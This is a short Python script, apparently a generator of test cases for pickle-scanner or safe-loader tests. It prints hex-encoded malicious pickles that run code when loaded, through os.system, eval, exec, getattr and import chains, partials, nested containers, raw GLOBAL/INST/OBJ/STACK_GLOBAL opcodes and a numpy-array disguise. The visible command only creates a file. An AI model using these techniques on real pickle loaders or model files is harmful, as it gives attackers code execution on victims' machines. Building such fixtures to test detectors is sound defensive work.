# SPDX-License-Identifier: Apache-2.0
"""Prints pickles that create the file of the first argument when Python loads them: a name and the pickle in hex."""

import builtins
import functools
import os
import pickle
import sys
from typing import Any


class Attack:
    """Whatever is pickled of it is a call."""

    def __init__(self, *call: Any) -> None:
        self.call = call

    def __reduce__(self) -> tuple[Any, ...]:
        return self.call[0], self.call[1:]

    def __call__(self) -> None:
        """Only so that pickle believes that what it stands for can be called."""


def main() -> None:
    path = sys.argv[1]
    shell = f"touch '{path}'"
    code = f"open({path!r}, 'w').close()"
    attacks = {
        "os.system": Attack(os.system, shell),
        "eval": Attack(eval, code),
        "exec": Attack(exec, code),
        "open": Attack(open, path, "w"),
        "getattr": Attack(Attack(getattr, Attack(__import__, "os"), "system"), shell),
        "partial": Attack(functools.partial(os.system, shell)),
        "nested": Attack(tuple, (Attack(tuple, (Attack(os.system, shell),)),)),
        "list": [1, {"a": (Attack(builtins.eval, code),)}],
    }
    for name, attack in attacks.items():
        for protocol in range(6):
            print(f"{name}-{protocol}", pickle.dumps(attack, protocol).hex())
    text = b"X" + len(shell).to_bytes(4, "little") + shell.encode()
    call = b"cos\nsystem\n" + text + b"\x85R"
    # What is behind is what numpy begins with.
    print("before-an-array", (b"\x80\x02" + call + b"cnumpy.core.multiarray\n_reconstruct\n.").hex())
    print("as-bytes", (b"\x80\x02c_codecs\nencode\n" + call + b"X\x06\x00\x00\x00latin1\x86R.").hex())
    print("inst", (b"\x80\x02(" + text + b"ios\nsystem\n.").hex())
    print("obj", (b"\x80\x02(cos\nsystem\n" + text + b"o.").hex())
    print("stack-global", (b"\x80\x04\x8c\x02os\x8c\x06system\x93\x8c" + bytes([len(shell)]) + shell.encode() + b"\x85R.").hex())


main()
